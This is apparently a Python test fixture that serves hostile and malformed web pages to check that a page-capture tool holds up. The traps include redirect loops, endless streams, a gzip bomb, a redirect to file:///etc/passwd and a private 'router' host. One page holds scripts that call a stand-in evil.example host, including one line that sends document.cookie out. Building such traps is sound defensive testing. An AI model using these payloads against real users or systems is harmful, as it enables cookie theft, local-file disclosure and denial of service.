"""Pages that try to break a capture, each under a path of its own."""

from __future__ import annotations

import gzip
import time

from .served import Handler, Page

TRAP = "trap.example"
OTHER = "other.example"
PRIVATE = "The private words of a router."


def words(text: str, *, head: str = "") -> str:
    opening = f"<!doctype html><html lang=en><head><title>t</title>{head}</head>"
    return f"{opening}<body>{text}</body></html>"


def redirect(to: str, status: int = 302) -> Page:
    return lambda h: h.send(b"", status=status, headers=(("Location", to),))


def count_up(h: Handler) -> None:
    n = int(h.path.partition("=")[2] or 0)
    h.send(b"", status=302, headers=(("Location", f"/redirects?n={n + 1}"),))


def refresh_up(h: Handler) -> None:
    n = int(h.path.partition("=")[2] or 0)
    h.send(words(f"<script>location.href = '/refreshes?n={n + 1}'</script>on we go").encode())


def slow_drip(h: Handler) -> None:
    h.start()
    while not h.server.stopped.is_set():
        h.wfile.write(b"<p>drip</p>")
        time.sleep(0.1)


def never_answers(h: Handler) -> None:
    h.server.stopped.wait(60)


def endless(h: Handler) -> None:
    h.start("text/javascript" if h.path.endswith(".js") else "text/html")
    piece = b"<p>words and words</p>" * 3000
    while not h.server.stopped.is_set():
        h.wfile.write(piece)


def says_500_mb(h: Handler) -> None:
    h.send_response(200)
    h.send_header("Content-Type", "text/html")
    h.send_header("Content-Length", str(500 * 1024 * 1024))
    h.end_headers()
    piece = b" " * 65536
    for _ in range(8000):
        if h.server.stopped.is_set():
            return
        h.wfile.write(piece)


def bomb(h: Handler) -> None:
    body = gzip.compress(b"<p>boom</p>" * 1_000_000, 1)
    h.send(body, "text/html", headers=(("Content-Encoding", "gzip"),))


def packed_anyway(h: Handler) -> None:
    """A body that is packed on its way."""
    body = gzip.compress(words("packed words").encode())
    h.send(body, "text/html", headers=(("Content-Encoding", "gzip"),))


def chunked(h: Handler) -> None:
    h.send_response(200)
    h.send_header("Content-Type", "text/html")
    h.send_header("Transfer-Encoding", "chunked")
    h.end_headers()
    for piece in (b"<p>chunked ", b"words</p>"):
        h.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
    h.wfile.write(b"0\r\n\r\n")


def cut_short(h: Handler) -> None:
    h.send_response(200)
    h.send_header("Content-Type", "text/html")
    h.send_header("Content-Length", "9999")
    h.end_headers()
    h.wfile.write(b"<p>only the beginning")
    h.close_connection = True


def file_to_keep(h: Handler) -> None:
    h.send(
        b"x" * 100, "text/html", headers=(("Content-Disposition", "attachment; filename=a.html"),)
    )


HOSTILE = words(
    """
    <h1 onclick="fetch('http://evil.example/click')">Hostile words</h1>
    <script>fetch('http://evil.example/steal?c=' + document.cookie)</script>
    <img src=x onerror="new Image().src = 'http://evil.example/onerror'">
    <a href="javascript:fetch('http://evil.example/link')">a link</a>
    <iframe srcdoc="<p>framed words</p><script>parent.x = 1</script>"></iframe>
    <form action="http://evil.example/form"><input name=a></form>
    <meta http-equiv="refresh" content="600; url=http://evil.example/later">
    <object data="http://evil.example/object"></object>
    <p title="</body><script>1</script>">odd attribute</p>
    """,
    head="<style>body { background: url(http://evil.example/css) } "
    "@import 'http://evil.example/import';</style>"
    "<link rel=prefetch href='http://evil.example/prefetch'>"
    "<link rel=preconnect href='http://quiet.example'>"
    "<link rel=dns-prefetch href='http://silent.example'>",
)

NOISY = words(
    """<p>Noisy words</p>
    <script>
      alert('hello'); confirm('sure?'); prompt('name?');
      window.onbeforeunload = () => 'stay';
      window.open('/popup');
      console.error('it broke');
      setTimeout(() => { throw new Error('later') }, 10);
      navigator.serviceWorker && navigator.serviceWorker.register('/worker.js').catch(() => {});
      navigator.geolocation && navigator.geolocation.getCurrentPosition(() => {}, () => {});
      const a = document.createElement('a'); a.href = '/file.bin'; a.download = 'x'; a.click();
      print();
      try { new WebSocket('ws://other.example/socket') } catch (e) {}
      try { new EventSource('/events') } catch (e) {}
    </script>"""
)

INFINITE = words(
    """<div id=list></div><script>
    const add = () => { for (let i = 0; i < 40; i++) {
      const p = document.createElement('p'); p.textContent = 'item ' + i; list.append(p); } };
    add(); onscroll = add;
    </script>"""
)

LAZY = words(
    """<p>top</p><div style="height: 3000px"></div><div id=x>not yet</div><script>
    new IntersectionObserver((e) => { if (e[0].isIntersecting) x.textContent = 'lazy words came'; })
      .observe(x);
    </script>"""
)

SHADOW = words(
    """<my-card>light words</my-card><script>
    const host = document.querySelector('my-card');
    host.attachShadow({mode: 'open'}).innerHTML = '<p>shadow <b>words</b></p><slot></slot>';
    </script><p>after</p>"""
)

MISNESTED = words(
    """<p>one</p><div id=box></div><noscript><p>no script words</p></noscript><script>
    const p = document.createElement('p'); p.textContent = 'outer ';
    const inner = document.createElement('div'); inner.textContent = 'a block in a paragraph';
    p.append(inner); box.append(p);
    </script><table><tr><td>cell</td></tr></table><p>last</p>"""
)

TAMPERED = words(
    """<p>tampered words</p><script>
    Element.prototype.getBoundingClientRect = () => ({x: 1e9, y: 1e9, width: 1, height: 1});
    Document.prototype.querySelector = () => null; JSON.stringify = () => 'x';
    Array.prototype.map = () => []; DOMParser = null; Element.prototype.getHTML = () => 'lies';
    </script>"""
)

DATA_URI = words(f"<p>big words</p><img src='data:image/png;base64,{'A' * 3_000_000}'>")

BUSY = words("<p>busy</p><script>while (true) {}</script>")
CHARSET = b"<html><head><meta charset=windows-1252><title>t</title></head><body>caf\xe9 \x80 5"

HOSTS = (TRAP, OTHER, "router.example")

PAGES: dict[tuple[str, str], Page] = {
    (TRAP, "/redirects"): count_up,
    (TRAP, "/refreshes"): refresh_up,
    (TRAP, "/drip"): slow_drip,
    (TRAP, "/silent"): never_answers,
    (TRAP, "/endless"): endless,
    (TRAP, "/huge"): says_500_mb,
    (TRAP, "/bomb"): bomb,
    (TRAP, "/packed"): packed_anyway,
    (TRAP, "/chunked"): chunked,
    (TRAP, "/cut"): cut_short,
    (TRAP, "/file"): file_to_keep,
    (TRAP, "/pdf"): lambda h: h.send(b"%PDF-1.4 ...", "application/pdf"),
    (TRAP, "/nothing"): lambda h: h.send(b"", status=204),
    (TRAP, "/empty"): words("<div id=app></div><script>1</script>"),
    (TRAP, "/hostile"): HOSTILE,
    (TRAP, "/noisy"): NOISY,
    (TRAP, "/popup"): words("popup words"),
    (TRAP, "/file.bin"): lambda h: h.send(b"x", "application/octet-stream"),
    (TRAP, "/events"): lambda h: (h.start("text/event-stream"), h.server.stopped.wait(60))[0],
    (TRAP, "/infinite"): INFINITE,
    (TRAP, "/lazy"): LAZY,
    (TRAP, "/shadow"): SHADOW,
    (TRAP, "/misnested"): MISNESTED,
    (TRAP, "/tampered"): TAMPERED,
    (TRAP, "/data"): DATA_URI,
    (TRAP, "/busy"): BUSY,
    (TRAP, "/charset"): lambda h: h.send(CHARSET, "text/html"),
    (TRAP, "/wrong-charset"): lambda h: h.send(
        words("café words").encode("latin-1"), "text/html; charset=utf-8"
    ),
    (TRAP, "/broken"): "<p>broken <b>bold <i>both</b> italic</i><table><p>in table<div>unclosed",
    (TRAP, "/frames"): words(
        "<p>around</p><iframe src='http://other.example/inner'></iframe><iframe src=/own></iframe>"
    ),
    (TRAP, "/own"): words("own frame words"),
    (OTHER, "/inner"): words("inner frame words"),
    (TRAP, "/login"): redirect("/sign-in"),
    (TRAP, "/sign-in"): words("<form>Name <input> <input type=password> Sign in</form>"),
    (TRAP, "/401"): lambda h: h.send(b"no", status=401, headers=(("WWW-Authenticate", "Basic"),)),
    (TRAP, "/500"): lambda h: h.send(b"oops", status=500),
    (TRAP, "/slow-part"): words(
        "<p>slow part words</p><img src=/silent><script src=/endless.js></script>"
    ),
    (TRAP, "/endless.js"): endless,
    (TRAP, "/to-file"): redirect("file:///etc/passwd"),
    (TRAP, "/changes-its-mind"): words(
        "<p>given up words</p><script>const c = new AbortController();"
        "fetch('/silent', {signal: c.signal}).catch(() => 0);"
        "setTimeout(() => c.abort(), 50)</script>"
    ),
    (TRAP, "/heavy"): words(
        "<p>heavy words</p>" + "".join(f"<img src=/heavy-{n}>" for n in range(5))
    ),
    **{(TRAP, f"/heavy-{n}"): lambda h: h.send(b"x" * 3_500_000, "image/png") for n in range(5)},
    (TRAP, "/fine"): words("<p>fine words</p>"),
    ("router.example", "/"): words(PRIVATE),
}
